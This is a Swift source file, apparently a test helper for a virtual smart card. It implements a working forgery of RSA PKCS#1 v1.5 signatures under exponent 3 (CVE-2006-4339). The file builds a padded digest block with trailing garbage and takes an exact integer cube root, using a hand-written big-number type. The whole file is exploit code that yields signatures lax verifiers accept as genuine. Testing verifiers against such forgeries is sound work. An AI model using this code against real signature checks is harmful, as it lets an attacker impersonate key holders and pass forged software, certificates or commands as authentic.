package import OpenSSLCrypto
import VirtualCard

/// The forgery of RSASSA-PKCS1-v1_5 under the exponent 3 (CVE-2006-4339): a number whose cube, smaller than the modulus, begins
/// like a padded digest. A reader that does not look at what stands behind the digest takes it for a signature of whoever has
/// such a key.
package enum ForgedPadding {
    /// The forged signature over a message.
    ///
    /// - Parameter length: of the modulus in bytes. A third of it must be left behind head and digest: 256 do for SHA-256, 384 for all.
    package static func signature(over message: [UInt8], hash: HashAlgorithm, length: Int) -> [UInt8] {
        let digest = DER.sequence(hash.identifier, DER.octetString(hash.digest(message)))
        let head: [UInt8] = [0x00, 0x01] + [UInt8](repeating: 0xFF, count: 8) + [0x00] + digest
        let block = head + [UInt8](repeating: 0xFF, count: max(0, length - head.count))
        let root = Limbs(bigEndian: block).cubeRoot.bigEndian
        return [UInt8](repeating: 0, count: max(0, length - root.count)) + root
    }
}

/// A non-negative number of any size, for the one thing that is done with it here.
struct Limbs: Comparable {
    /// The least significant first, none above the last that is not zero.
    private var limbs: [UInt32]

    init(bigEndian bytes: [UInt8]) {
        limbs = []
        for (index, byte) in bytes.reversed().enumerated() {
            if index % 4 == 0 { limbs.append(0) }
            limbs[index / 4] |= UInt32(byte) << UInt32(8 * (index % 4))
        }
        trim()
    }

    private mutating func trim() { while limbs.last == 0 { limbs.removeLast() } }

    var bigEndian: [UInt8] {
        let bytes = limbs.reversed().flatMap { limb in
            [24, 16, 8, 0].map { UInt8(truncatingIfNeeded: limb >> UInt32($0)) }
        }
        return Array(bytes.drop { $0 == 0 })
    }

    static func < (left: Limbs, right: Limbs) -> Bool {
        guard left.limbs.count == right.limbs.count else { return left.limbs.count < right.limbs.count }
        return left.limbs.reversed().lexicographicallyPrecedes(right.limbs.reversed())
    }

    static func * (left: Limbs, right: Limbs) -> Limbs {
        var product = Limbs(bigEndian: [])
        product.limbs = [UInt32](repeating: 0, count: left.limbs.count + right.limbs.count)
        for (i, factor) in left.limbs.enumerated() {
            var carry: UInt64 = 0
            for (j, other) in right.limbs.enumerated() {
                carry += UInt64(factor) * UInt64(other) + UInt64(product.limbs[i + j])
                product.limbs[i + j] = UInt32(truncatingIfNeeded: carry)
                carry >>= 32
            }
            product.limbs[i + right.limbs.count] = UInt32(truncatingIfNeeded: carry)
        }
        product.trim()
        return product
    }

    /// The greatest number whose cube is not greater.
    var cubeRoot: Limbs {
        var root = self
        root.limbs = [UInt32](repeating: 0, count: limbs.count / 3 + 1)
        for bit in (0..<(root.limbs.count * 32)).reversed() {
            var trial = root
            trial.limbs[bit / 32] |= 1 << UInt32(bit % 32)
            var number = trial
            number.trim()
            if number * number * number <= self { root = trial }
        }
        root.trim()
        return root
    }
}
